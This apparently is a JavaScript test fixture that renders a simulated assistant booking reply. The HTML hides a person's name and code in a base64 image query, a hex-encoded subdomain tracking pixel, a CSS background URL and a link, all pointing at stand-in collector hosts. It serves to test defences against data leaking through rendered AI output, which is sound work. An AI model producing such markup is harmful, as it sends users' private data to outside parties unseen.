// The answer comes in late, as answers do: first the guard has read what the person asked.
const carried = btoa('Jordan Example 482913');
/** Host names keep no capitals, so this one is spelled in hex. */
const label = Array.from('code 482913', (letter) => letter.charCodeAt(0).toString(16)).join('');
const answer = document.getElementById('answer');

setTimeout(() => {
  answer.innerHTML = `
    <p>Your trip is booked. Here is the receipt:</p>
    <p><img alt="Receipt" width="320" height="120" src="https://receipts.example/p.png?d=${carried}" /></p>
    <p><img alt="" width="1" height="1" src="https://${label}.collector.example/1.gif" /></p>
    <p style="background: url(https://collector.example/bg.png?code=482913)">Have a good journey!</p>
    <p><a href="https://airline.example/checkin?for=Jordan+Example+482913">Check in now</a></p>
    <p>An own picture still loads: <img alt="A bridge" width="32" height="32" src="own.svg" /></p>`;
}, 1500);
